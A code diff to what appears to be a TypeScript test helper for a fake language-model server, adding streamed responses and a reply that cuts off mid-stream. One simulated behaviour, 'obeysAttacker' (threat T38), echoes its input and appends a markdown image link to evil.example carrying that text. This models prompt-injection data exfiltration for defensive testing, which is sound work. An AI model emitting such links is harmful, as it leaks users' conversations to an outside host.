@@ -5,7 +5,12 @@ import type { AddressInfo } from "node:net";
 export type ModelCall = {
   path: string;
   authorization: string | undefined;
-  body: { model: string; max_tokens: number; messages: { role: string; content: string }[] };
+  body: {
+    model: string;
+    max_tokens: number;
+    stream?: boolean;
+    messages: { role: string; content: string }[];
+  };
   /** Whoever asked went away before the answer. */
   left: boolean;
 };
@@ -45,13 +50,13 @@ export async function startModelServer() {
 }
 
 export function says(text: string): Manner {
-  return (_call, response) => send(response, text);
+  return (call, response) => send(call, response, text);
 }
 
 /** Does whatever a text tells it to, and gives away all it was told (threat T38). */
-export const obeysAttacker: Manner = ({ body }, response) => {
-  const told = body.messages.map(({ content }) => content).join("\n");
-  send(response, `${told}\n![x](https://evil.example/?q=${encodeURIComponent(told.slice(0, 200))})`);
+export const obeysAttacker: Manner = (call, response) => {
+  const told = call.body.messages.map(({ content }) => content).join("\n");
+  send(call, response, `${told}\n![x](https://evil.example/?q=${encodeURIComponent(told.slice(0, 200))})`);
 };
 
 export const hangs: Manner = () => {};
@@ -78,7 +83,39 @@ export function redirectsTo(location: string): Manner {
   return (_call, response) => response.writeHead(307, { location }).end();
 }
 
-function send(response: ServerResponse, content: string): void {
+/** The first words of an answer, in its stream when it is asked for one; nothing after them. */
+export const breaksOffAfter =
+  (text: string): Manner =>
+  (_call, response) => {
+    response.writeHead(200, { "content-type": "text/event-stream" });
+    response.write(eventOf({ content: text }), () => response.destroy());
+  };
+
+const eventOf = (delta: object, finish: string | null = null) =>
+  `data: ${JSON.stringify({
+    id: "1",
+    object: "chat.completion.chunk",
+    created: 1,
+    model: "modele-de-test",
+    choices: [{ index: 0, delta, finish_reason: finish }],
+  })}\n\n`;
+
+/** A few letters at a time, which end anywhere. */
+function stream(response: ServerResponse, content: string): void {
+  response.writeHead(200, { "content-type": "text/event-stream" });
+  for (const part of content.match(/[\s\S]{1,400}/g) ?? []) {
+    for (const few of content.length > 20_000 ? [part] : (part.match(/[\s\S]{1,7}/g) ?? []))
+      response.write(eventOf({ content: few }));
+  }
+  response.end(`${eventOf({}, "stop")}data: [DONE]\n\n`);
+}
+
+function send({ body }: ModelCall, response: ServerResponse, content: string): void {
+  if (body.stream) stream(response, content);
+  else sendWhole(response, content);
+}
+
+function sendWhole(response: ServerResponse, content: string): void {
   response.writeHead(200, { "content-type": "application/json" });
   response.end(
     JSON.stringify({
